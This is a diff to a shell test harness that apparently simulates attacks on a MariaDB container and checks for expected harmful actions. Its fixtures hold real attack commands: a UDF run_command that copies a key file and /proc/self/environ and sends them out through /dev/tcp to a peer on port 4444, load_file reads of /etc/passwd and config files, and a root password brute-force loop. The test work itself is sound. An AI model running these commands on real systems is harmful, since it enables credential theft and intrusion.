@@ -26,6 +26,7 @@ image_prepare() {
 		"$tree"/etc/ssl/private "$tree"/usr/lib/mysql/plugin
 	printf '%s\n' '-----BEGIN PRIVATE KEY-----' 'bm90IGEga2V5' >"$tree/etc/ssl/private/backup.key"
 	echo '<html>shop</html>' >"$tree/srv/www/index.html"
+	echo '<?php $key = "secret-of-the-pages";' >"$tree/srv/www/config.php"
 	chmod 777 "$tree/srv/www"
 	mariadb_settings >"$tree/etc/mysql/my.cnf"
 	cat >"$tree/etc/mysql/init.sql" <<-'SQL'
@@ -370,10 +371,10 @@ attack_reverse_shell() {
 attack_credentials() {
 	udf_install
 	harm open /etc/ssl/private/backup.key
-	harm open '/proc/1/environ'
+	harm open '/proc/*/environ'
 	thief_begin
 	harm connect "$peer_address:4444"
-	admin_sql "select run_command('cat /etc/ssl/private/backup.key /proc/1/environ >/tmp/.stolen')"
+	admin_sql "select run_command('cat /etc/ssl/private/backup.key /proc/self/environ >/tmp/.stolen')"
 	admin_sql "select run_command('bash -c \"cat /tmp/.stolen >/dev/tcp/$peer_address/4444\"')"
 	thief_got 'PRIVATE KEY'
 }
@@ -395,18 +396,18 @@ attack_log_file() {
 	grep -q 'php system' "$(volume_path mariadb /srv/www)/log.php"
 }
 
+# Files that all may read: others are refused by the server.
 attack_load_file() {
-	harm open /etc/ssl/private/backup.key
+	harm open /srv/www/config.php
 	harm open /etc/passwd
-	admin_sql "select load_file('/etc/passwd'), load_file('/etc/ssl/private/backup.key'),
-		load_file('/etc/mysql/init.sql')" |
-		tee "$stage/answer" | grep 'PRIVATE KEY'
+	harm open /etc/mysql/init.sql
+	admin_sql "select load_file('/etc/passwd'), load_file('/srv/www/config.php'), load_file('/etc/mysql/init.sql')" |
+		tee "$stage/answer" | grep secret-of-the-pages
 }
 
 attack_brute_force() {
 	local i
 	harm call accept4
-	harm open /var/log/mysql/error.log
 	for i in {1..80} secret; do
 		client mariadb -h "$own_address" -u root "-p$i" -BNe 'select 4711'
 	done | grep -x 4711
